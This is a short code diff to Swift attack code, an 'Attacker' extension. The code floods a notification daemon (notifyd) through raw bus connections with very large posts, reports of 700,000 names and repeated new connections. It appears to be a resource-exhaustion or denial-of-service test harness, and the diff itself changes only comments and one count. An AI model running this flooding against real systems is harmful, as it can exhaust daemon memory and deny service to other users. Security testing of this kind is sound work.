@@ -52,8 +52,8 @@ extension Attacker {
         func post(_ length: Int) -> WireMessage {
             Notifyd.post("user.uid.\(getuid())." + String(repeating: "a", count: length))
         }
-        // Before it is ready, it has as many bytes in flight as dbus-daemon holds for one sender, if notifyd posts
-        // them.
+        // Before this client is ready, notifyd has as many bytes of posts in flight as dbus-daemon holds for one
+        // sender, unless notifyd refuses a post.
         if let connection = RawConnection(address) {
             for _ in 0..<600 where connection.call(post(250_000))?.kind != WireMessage.Kind.answer.rawValue { break }
         }
@@ -107,7 +107,7 @@ extension Attacker {
         }
     }
 
-    /// Sends reports of a million names, and reports of an earlier version with millions of tiny values.
+    /// Sends reports of 700,000 names, and reports of an earlier version with millions of tiny values.
     func sendBigReports() {
         // 4 bytes each: a signature “y” and a byte.
         let value = [UInt8]([1, UInt8(ascii: "y"), 0, 7])
@@ -137,7 +137,7 @@ extension Attacker {
             guard let newcomer = RawConnection(self.address) else { return true }
             let calls = [Notifyd.enter([text]), Notifyd.report(1, text), Notifyd.setState(text, 1, at: 1)]
             newcomer.send(calls[round / 3 % 3])
-            // Without this, the call would disappear together with its connection.
+            // Without this second call, the first one would disappear together with its connection.
             _ = newcomer.call(Notifyd.getState("n"))
             return true
         }
